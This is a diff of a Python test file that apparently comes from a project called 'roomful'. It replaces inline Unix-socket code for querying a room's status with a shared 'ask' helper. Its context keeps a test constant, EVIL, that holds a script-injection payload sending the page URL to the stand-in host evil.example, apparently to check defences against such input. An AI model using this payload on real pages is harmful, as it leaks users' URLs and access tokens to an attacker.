@@ -7,6 +7,7 @@ import subprocess
 import threading
 
 from conftest import PROGRAM
+from door import ask
 
 HONEST = "http://127.0.0.1:8720/operator/#t=" + "A" * 43
 EVIL = 'https://127.0.0.1:1/"><script>location="https://evil.example/?"+document.URL</script><a href="'
@@ -42,12 +43,7 @@ def status_of_a_room(started, environment):
             break
     run = os.path.join(environment["ROOMFUL_STATE"], "run")
     (name,) = [name for name in os.listdir(run) if name.endswith(".sock")]
-    with socket.socket(socket.AF_UNIX) as connection:
-        connection.connect(os.path.join(run, name))
-        lines = connection.makefile("rwb")
-        lines.write(b'{"task":"status"}\n')
-        lines.flush()
-        status = json.loads(lines.readline())["status"]
+    status = ask(os.path.join(run, name), {"task": "status"})[0]["status"]
     room.terminate()
     room.wait(timeout=30)
     return status
